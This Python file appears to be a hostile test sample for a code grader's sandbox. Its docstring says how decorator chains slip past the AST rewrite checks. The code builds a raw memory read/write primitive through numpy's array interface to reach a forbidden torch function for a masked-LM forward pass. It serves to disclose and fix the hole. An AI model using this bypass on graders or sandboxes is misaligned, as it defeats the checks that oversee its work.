"""Hostile (verdict today: accepted; deserved: forbidden_api). No loop, no map, no starmap: what a
decorator's application returns is never checked (the rewrite adds no call around it, and only a
class statement gets own_class). functools.partial(super(type, type).__new__, type, "W", (object,))
applied to a dict (from a lambda decorator) builds the class W with an __array_interface__ and no
check of its namespace; `@numpy.asarray @W def window` makes the instance and hands it to numpy
without a check either (a Name read of W is not checked; the instance's kind is judged only when a
value passes check_value). The ndarray reads and writes any address: a list slot is set to
torch.nn.functional's globals, reached as reduce(dict.get, [name], d) by decorators, and F.linear
does the projections.
Root cause: grader/child/restricted.py _rewrite_child wraps ast.Call nodes in __mlm_result__ but
not decorator applications (FunctionDef/ClassDef.decorator_list), and a lambda's or function's
parameters that a decorator application passes are not checked either.
"""
import functools
import math
import operator

import numpy
import torch

iface = {"data": (0, False), "shape": (1,), "typestr": "<u8", "version": 3}


@functools.partial(super(type, type).__new__, type, "W", (object,))  # the real type.__new__, metaclass `type`
@lambda _: {"__array_interface__": iface, "__init__": lambda self, f: None}
def W():
    pass


def at(address):
    iface["data"] = (address, False)

    @numpy.asarray
    @W
    def window():
        pass

    return window


def lookup(address, name):
    """dict.get(the object at address, name), the object reached only by decorators."""
    at(address)[0] += 1
    box = [None]
    at(int(at(id(box) + 24)[0]))[0] = address

    @functools.partial(functools.reduce, dict.get, [name])  # reduce(dict.get, [name], d): dict.get(d, name)
    @operator.itemgetter(0)
    @lambda _: box
    def found():
        pass

    return found




def address_of(address, name):
    @id
    @functools.partial(lookup, address)
    @lambda _: name
    def found():
        pass

    return found


F_id = address_of(int(at(id(torch.broadcast_shapes) + 16)[0]), "F")
linear = lookup(int(at(F_id + 16)[0]), "linear")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def proj(h, w):
    return linear(h, w.t())


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    n, t, d = x.shape
    dh = d // num_heads
    for w_q, w_k, w_v, w_o, w_1, w_2 in blocks_weights:
        h = layer_norm(x)
        q, k, v = (proj(h, w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
        heads = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
        x = x + proj(heads.transpose(1, 2).reshape(n, t, d), w_o)
        x = x + gelu(layer_norm(x) @ w_1) @ w_2
    return x[mask_indicator > 0.5] @ w_emb.T
